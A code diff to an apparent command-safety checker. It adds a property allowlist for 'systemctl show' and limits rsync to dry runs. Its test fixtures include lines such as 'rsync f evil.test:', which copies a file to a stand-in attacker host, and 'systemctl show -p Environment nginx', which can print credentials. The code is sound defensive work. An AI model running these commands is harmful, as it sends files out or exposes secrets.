@@ -53,6 +53,30 @@ def _judge_lsof(call: Call) -> Verdict:
     return _lsof_addresses(Call(call.program, call.name, certain))
 
 
+# What a unit is and does; others of its properties hold variables, credentials and command lines.
+_UNIT_PROPERTIES = options.names(
+    """Id Names Description LoadState ActiveState SubState UnitFileState UnitFilePreset FragmentPath DropInPaths Result
+    Type Restart NRestarts MainPID ControlPID ExecMainPID ExecMainCode ExecMainStatus ExecMainStartTimestamp
+    ExecMainExitTimestamp ActiveEnterTimestamp ActiveExitTimestamp InactiveEnterTimestamp InactiveExitTimestamp
+    StateChangeTimestamp MemoryCurrent MemoryPeak MemoryMax TasksCurrent TasksMax CPUUsageNSec User Group Slice
+    ControlGroup WorkingDirectory Requires Wants WantedBy After Before Conflicts TriggeredBy Triggers NeedDaemonReload
+    NextElapseUSecRealtime LastTriggerUSec"""
+)
+_SYSTEMCTL_SHOW = "-p: -P: --property: --value --no-pager @text"
+
+
+def _judge_systemctl(call: Call) -> Verdict:
+    """Judge `systemctl show`, which prints the environment of a unit unless it is told what to print."""
+    if [word.text for word in call.words[:1]] != ["show"]:
+        return Verdict(f"`{call.name}` is not known to be read-only")
+    known = options.flags(_SYSTEMCTL_SHOW)
+    values = options.parse(call.words[1:], known).values("-p", "-P", "--property")
+    named = {name for value in values for name in (value.text if value.literal else "?").split(",")}
+    if not named or not named <= _UNIT_PROPERTIES:
+        return Verdict("`systemctl show` may print the environment of a unit")
+    return options.judge_words("systemctl show", call.words[1:], known)
+
+
 _PROCESSES = options.names("""$$ "$$" $! "$!" $PPID "$PPID" """)
 _IDENTIFIER = lazy_pattern(r"[A-Za-z_]\w*", re.ASCII)
 
@@ -84,6 +108,11 @@ _WGET = (
     "--method: --user: --password: --user-agent: --referer: --tries: --timeout: --wait: --level: --accept: --reject: "
     "--domains: --load-cookies: --save-cookies: --ca-certificate: --certificate: --private-key: --execute: --config: "
     "--limit-rate: --quota: --bind-address: --use-askpass:"
+)
+_RSYNC_TELLS = (
+    "-acghiHlnopPqrRtuvxzDWS --dry-run --archive --recursive --verbose --quiet --checksum --delete --existing "
+    "--update --ignore-existing --itemize-changes --human-readable --stats --size-only --progress --exclude: "
+    "--include: --max-size: --min-size: @walk_operands"
 )
 _LOCAL_URL = lazy_pattern(r"file:(?://[^/]*)?/", re.IGNORECASE)
 
@@ -257,14 +286,15 @@ PROGRAMS: tuple[Program, ...] = (
     Program("systemctl",
             forms=(
                 *(Form(words, "--no-pager -q --quiet @text") for words in ("status", "is-active", "is-enabled",
-                     "is-failed", "cat")),
+                     "is-failed")),
                 *(Form(words, "--no-pager --all --type: --state: --failed -a -t: @text") for words in ("list-units",
                      "list-unit-files", "list-timers")),
-                Form("show", "-p: --property: --no-pager @text"),
                 Form("--failed", "--no-pager --all -a @none"),
             ),
-            version="--version --help", runs=("systemctl status nginx", "systemctl is-active ssh"),
-            asks=("systemctl restart nginx",)),
+            check=_judge_systemctl, version="--version --help",
+            runs=("systemctl status nginx", "systemctl is-active ssh", "systemctl show -p ActiveState,SubState nginx"),
+            asks=("systemctl restart nginx", "systemctl show nginx", "systemctl show -p Environment nginx",
+                  "systemctl show -p Id -P Environment nginx", "systemctl cat nginx")),
     Program("timedatectl",
             forms=(
                 Form(""),
@@ -301,10 +331,13 @@ PROGRAMS: tuple[Program, ...] = (
     Program("wget", version="--version --help -V", touches=_wget_touches, run_by_others=True, needs_network=True,
             runs=("wget --version", "wget -V"), asks=("wget https://example.com/x",)),
     Program("rsync", version="--version --help -V",
+            forms=(Form("", _RSYNC_TELLS, needs=("-n", "--dry-run"), operand="[^:]+", least=1, everything=True),),
             touches=Operands("sync", "-aAcdDgHhIiklLmnNoOpPqrRsStuvWxXyz -e: -f: -B: -T: -M: --rsh: --exclude: "
             "--include: --exclude-from: --files-from: --filter: --partial-dir: --temp-dir: --log-file: --bwlimit: "
             "--port: --password-file:"), starts=scripts("-e", "--rsh", "--rsync-path"), run_by_others=True,
-            needs_network=True, runs=("rsync --version", "rsync -V"), asks=("rsync f evil.test:",)),
+            needs_network=True, runs=("rsync --version", "rsync -V", "rsync -avn --delete src/ docs/"),
+            asks=("rsync f evil.test:", "rsync -n f evil.test:", "rsync -av src/ docs/", "rsync -avn --no-n src/ docs/",
+                  "rsync -n --log-file=x src/ docs/", "rsync -n --write-batch=x src/ docs/")),
     Program("scp", touches=Operands("sync", "-346BCpqrTvAOR -c: -D: -F: -i: -J: -l: -o: -P: -S: -X:"),
             starts=_ssh_starts, run_by_others=True, needs_network=True, asks=("scp x host:y",)),
     Program("sftp", touches=Operands("host", "-46aCfNpqrv -B: -b: -c: -D: -F: -i: -J: -l: -o: -P: -R: -S: -s: -X:"),
